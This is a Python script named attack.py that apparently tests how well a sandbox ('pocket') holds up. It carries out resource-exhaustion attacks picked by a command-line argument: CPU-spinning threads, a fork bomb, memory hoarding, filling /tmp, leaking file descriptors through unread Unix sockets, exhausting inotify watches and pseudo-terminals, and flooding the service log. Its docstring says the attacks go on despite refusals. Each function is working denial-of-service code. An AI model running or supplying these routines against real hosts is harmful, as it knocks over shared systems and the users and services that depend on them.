"""One attack on what a host has little of, from inside a pocket, as long as it is let: `attack.py KIND`.

It says "begun" first.

Each keeps what it got and goes on asking; a refusal is no reason to stop. The standard library alone.
"""

import array
import ctypes
import os
import pty
import socket
import sys
import threading
import time


def processor():
    for _ in range(8):
        threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
    time.sleep(1000)


def processes():
    while True:
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            pass


def memory():
    held = []
    while True:
        try:
            held.append(bytearray(os.urandom(4096) * 1024))
        except MemoryError:
            held.pop()


def files():
    """Files of /tmp, until its size or the pocket's memory ends."""
    n = 0
    while True:
        try:
            with open(f"/tmp/{n}", "wb") as file:
                file.write(b"x" * (1 << 20))
            n += 1
        except OSError:
            pass


def descriptors():
    """Memory files in flight: sent over sockets that nobody reads, each sent on in another."""
    kept = []
    while True:
        try:
            a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            fds = [os.memfd_create("x") for _ in range(100)]
            a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [*fds, a.fileno()]))])
            for fd in fds:
                os.close(fd)
            kept.append((a, b))
        except OSError:
            pass


def watches():
    libc = ctypes.CDLL(None)
    fds = [fd for fd in (libc.inotify_init1(0) for _ in range(10_000)) if fd >= 0]
    while True:
        for fd in fds:
            for name in ("/tmp", "/dev", "/proc", "/usr/bin", "/usr/lib"):
                libc.inotify_add_watch(fd, name.encode(), 0xFFF)


def terminals():
    held = []
    while True:
        try:
            held.append(pty.openpty())
        except OSError:
            pass


def output():
    """Lines for the service's log, as fast as they are taken."""
    line = b"x" * 1000 + b"\n"
    while True:
        os.write(1, line)


if __name__ == "__main__":
    print("begun", flush=True)
    globals()[sys.argv[1]]()
